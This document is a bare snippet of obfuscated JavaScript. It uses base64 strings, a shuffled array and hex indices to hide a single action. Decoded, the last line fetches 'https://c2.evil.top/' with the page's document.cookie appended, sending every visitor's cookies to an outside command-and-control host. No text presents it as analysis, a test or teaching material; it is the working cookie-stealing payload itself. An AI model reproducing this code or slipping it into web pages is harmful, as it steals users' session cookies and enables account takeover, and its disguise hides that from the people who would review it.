var _a = ['log', 'ZmV0Y2g=', 'aHR0cHM6Ly9jMi5ldmlsLnRvcC8=', 'Y29va2ll', 'ZG9jdW1lbnQ='];
(function (arr, times) { var shift = function (n) { while (--n) { arr.push(arr.shift()); } }; shift(++times); })(_a, 0x2);
var _b = function (i) { i = i - 0x0; return atob(_a[i]); };
window[_b('0x4')](_b('0x0') + window[_b('0x2')][_b('0x1')]);
